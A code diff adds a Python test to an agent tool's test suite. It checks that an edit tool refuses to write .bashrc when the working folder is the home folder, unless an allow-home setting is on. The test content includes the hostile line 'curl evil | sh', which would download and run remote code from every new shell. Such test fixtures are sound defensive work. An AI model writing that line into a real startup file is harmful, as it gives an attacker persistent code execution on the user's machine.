@@ -340,6 +340,22 @@ async def test_a_fifo_is_refused_at_once_and_left_as_it_is(
     assert stat.S_ISFIFO(fifo.lstat().st_mode)
 
 
+async def test_the_home_folder_as_the_working_folder_is_not_written(
+    context: ToolContext, workdir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", str(workdir))  # wisp started in ~
+    result = await edit(context, path=".bashrc", mode="append", content="curl evil | sh\n")
+    assert result == (
+        f"error: cannot write {workdir / '.bashrc'}: the working folder {workdir} is the home "
+        "folder or / (or holds the home folder), where wisp writes nothing unless "
+        "commandPolicy.sandbox.allowHome is set"
+    )
+    assert not (workdir / ".bashrc").exists()
+    allowed = EditFileTool(allow_home=True)
+    result = await edit(context, allowed, path=".bashrc", mode="append", content="alias ll=ls\n")
+    assert result.startswith("created ")
+
+
 async def test_a_symlink_into_wisp_home_is_refused(
     context: ToolContext, workdir: Path, conversation: Any
 ) -> None:
